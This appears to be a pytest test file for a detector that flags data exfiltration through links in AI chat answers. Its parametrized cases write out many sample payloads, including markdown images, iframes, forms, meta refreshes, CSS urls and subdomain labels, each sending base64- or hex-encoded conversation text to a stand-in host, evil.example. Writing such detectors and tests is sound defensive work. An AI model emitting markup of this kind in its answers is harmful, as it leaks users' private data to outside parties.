from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wardlaw.facts.exchange import Channel, Segment
from wardlaw.facts.finding import Finding, FindingKind, Level
from wardlaw.security.exfiltration import ExfiltrationDetector, Way, decodes, links, load_of
from wardlaw.security.normalise import Normaliser

COVERS = ("rules/weblinks",)
DETECTOR = ExfiltrationDetector()
NORMALISER = Normaliser()
SAID = b"the customer asked about his salary"
CODE = base64.urlsafe_b64encode(SAID).decode().rstrip("=")
LABEL = base64.b32encode(SAID).decode().rstrip("=").lower()


def detect(text: str, channel: Channel = Channel.ANSWER) -> list[Finding]:
    return DETECTOR.detect(NORMALISER.normalise(text), Segment(3, channel, "", text))


@pytest.mark.parametrize(
    "text",
    [
        f"![x](https://evil.example/p.png?d={CODE})",
        f"![x]( <https://evil.example/{CODE}.png> )",
        f"![x](//evil.example/{CODE})",
        f"![x][1]\n\n[1]: https://evil.example/{CODE}",
        f"![pixel]\n\n[pixel]: <https://evil.example/{CODE}>",
        f"<img alt=a src='https://evil.example/?q={SAID.hex()}'>",
        f'<iframe src="https://evil.example/{CODE}"></iframe>',
        f'<form action="https://evil.example/{CODE}">',
        f'<meta http-equiv="refresh" content="0;url=https://evil.example/{CODE}">',
        f".a {{ background: url(https://evil.example/{CODE}) }}",
        f"![x](https://{LABEL}.evil.example/a.png)",
        f"![x](https://www.google.com/url?q=https%3A%2F%2Fevil.example%2F%3Fd%3D{CODE})",
    ],
)
def test_encoded_text_that_leaves_by_itself_stops_the_answer(text):
    (found,) = detect(text)
    assert (found.kind, found.level, found.segment) == (FindingKind.INJECTION, Level.BLOCK, 3)
    assert "example" in text[found.start : found.end] or "google" in text[found.start : found.end]


@pytest.mark.parametrize(
    "text",
    [
        f"see <https://evil.example/?q={CODE}>",
        f"<https://evil.example/?q={CODE}|click here>",
        f"[here](https://evil.example/?q={CODE})",
        f"![d](https://mermaid.ink/img/{CODE})",
        "![x](https://evil.example/i.png?d=the+user+asked+about+his+salary+and+the+key+of+the+old+server)",
        "![x](https://evil.example/a9Xk2LmQ7vR3sT8wZ4bN6cV1dF5gH0jKpQ2eY7uI)",
    ],
)
def test_what_needs_a_click_or_may_be_chance_is_for_review(text):
    assert [one.level for one in detect(text)] == [Level.REVIEW]


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://raw.githubusercontent.com/acme/app/3f786850e387550fdab836ed7e6dc881de23001b/logo.png)",
        "[permalink](https://github.com/acme/app/blob/3f786850e387550fdab836ed7e6dc881de23001b/src/main.rs#L10)",
        "![x](https://files.s3.amazonaws.com/a.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature="
        + "3f86e8" * 10
        + ")",
        "https://shop.example/p?utm_campaign=spring-sale-2026&gclid=Cj0KCQiA3sq6BhD2ARIsAJ8MRwXb9abcdEFGH",
        "https://www.google.com/search?q=how+to+bake+a+cake+without+eggs+or+milk+in+a+very+old+oven&oq=how",
        "![build](https://img.shields.io/badge/build-passing-green)",
        "https://learn.example/en-us/azure/active-directory/develop/v2-oauth2-auth-code-flow",
        "https://example.org/?id=550e8400-e29b-41d4-a716-446655440000",
        "https://very-long-subdomain-name-for-my-application.azurewebsites.net/x",
        "![a](https://images.unsplash.com/photo-1518770660439-4636190af475?ixlib=rb-4.0.3&auto=format&w=1770)",
        "https://en.wikipedia.org/wiki/Internationalization_and_localization",
        "[bracket](https://[broken/x) // a comment",
    ],
)
def test_ordinary_addresses_pass(text):
    assert detect(text) == []


def test_only_answers_are_looked_at():
    text = f"![x](https://evil.example/p.png?d={CODE})"
    assert detect(text, Channel.ASSISTANT)
    assert detect(text, Channel.USER) == []


def test_a_place_is_one_link_and_images_come_first():
    found = list(links("[a](https://one.example/) ![b](https://two.example/)"))
    assert [(link.way, link.url) for link in found] == [
        (Way.FETCHED, "https://two.example/"),
        (Way.LINKED, "https://one.example/"),
    ]


def test_random_bytes_do_not_read_as_text():
    assert decodes(CODE)
    assert decodes(SAID.hex())
    assert not decodes(base64.b64encode(bytes(range(120, 168))).decode())
    assert not decodes("3f786850e387550fdab836ed7e6dc881de23001b")


@given(st.text(max_size=80), st.sampled_from(Way))
def test_every_address_is_judged(rest: str, way: Way) -> None:
    load_of("https://" + rest, way)
    for one in detect(f"![x](https://e.example/{rest}) {rest}"):
        assert 0 <= one.start < one.end
